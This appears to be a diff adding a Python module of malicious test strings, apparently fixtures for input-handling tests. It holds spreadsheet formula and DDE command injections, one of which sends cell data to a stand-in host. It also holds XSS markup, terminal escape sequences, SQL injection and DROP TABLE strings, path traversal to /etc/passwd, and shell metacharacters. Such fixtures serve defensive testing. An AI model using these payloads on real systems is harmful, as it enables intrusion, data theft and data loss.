@@ -1,0 +1,77 @@
+"""Texts that were made to do harm wherever they are shown, stored or compared."""
+
+from __future__ import annotations
+
+FORMULAS = (
+    '=HYPERLINK("http://evil.example","pay here")',
+    "=cmd|' /C calc'!A0",
+    "+1+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+    "\n=1+1",
+    " =1+1",
+    "\u00a0=1+1",
+    "\ufeff=1+1",
+    "\u200b=1+1",
+    "＝1+1",
+    "＋1+1",
+    "－1+1",
+    "＠SUM(1)",
+    "|calc",
+    "%0A=1+1",
+    '=IMPORTXML(CONCAT("http://evil.example/?v=",A1),"//a")',
+    '=DDE("cmd";"/C calc";"x")',
+)
+MARKUP = (
+    "<script>alert('x')</script>",
+    "</script><script>alert(1)</script>",
+    "</style><script>alert(1)</script>",
+    "</title><script>alert(1)</script>",
+    '"><img src=x onerror=alert(1)>',
+    "' onmouseover='alert(1)",
+    '" autofocus onfocus="alert(1)',
+    "<svg/onload=alert(1)>",
+    "<!--<script>alert(1)",
+    "]]><script>alert(1)</script>",
+    "{{ 7 * 7 }}{% raw %}",
+    "${7*7}",
+    "javascript:alert(1)",
+    "[click](javascript:alert(1))",
+    "![x](http://evil.example/x.png)",
+    "| a | b |\n| --- | --- |\n| c | d |",
+    "# a heading\n\n* a list",
+    "&lt;script&gt;",
+    "<iframe src=//evil.example>",
+)
+STEERING = (
+    "\x1b[31mred\x1b[0m",
+    "\x1b[2J\x1b[H",
+    "\x1b]0;title\x07",
+    "\x1b]8;;http://evil.example\x1b\\link\x1b]8;;\x1b\\",
+    "\x1b]52;c;ZXZpbA==\x07",
+    "\x1bP$q\x1b\\",
+    "\x9b31m",
+    "\x9d0;title\x9c",
+    "a\rb",
+    "a\bb\x7f",
+    "\u202egnp.exe",
+    "\u2066a\u2069",
+    "a\u2028b",
+    "[bold]rich[/bold]",
+)
+QUERIES = (
+    "'; DROP TABLE record; --",
+    "' OR '1'='1",
+    '" OR ""="',
+    "1); DELETE FROM landing; --",
+    "\\'; DROP TABLE record; --",
+    "x' UNION SELECT hash FROM record --",
+    "?, :a, %s, %(a)s, $1",
+    "{0.__class__}{x}%n%(x)s",
+    "' LIMIT 0 --",
+    "Robert'); DROP TABLE leads;--",
+)
+OTHER = ("../../../etc/passwd", "%00", "%0d%0aX-Evil: 1", "a;b|c&d`e`$(f)", "\ufffe\uffff", "ﷺ" * 50, "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢")
+ALL = (*FORMULAS, *MARKUP, *STEERING, *QUERIES, *OTHER)
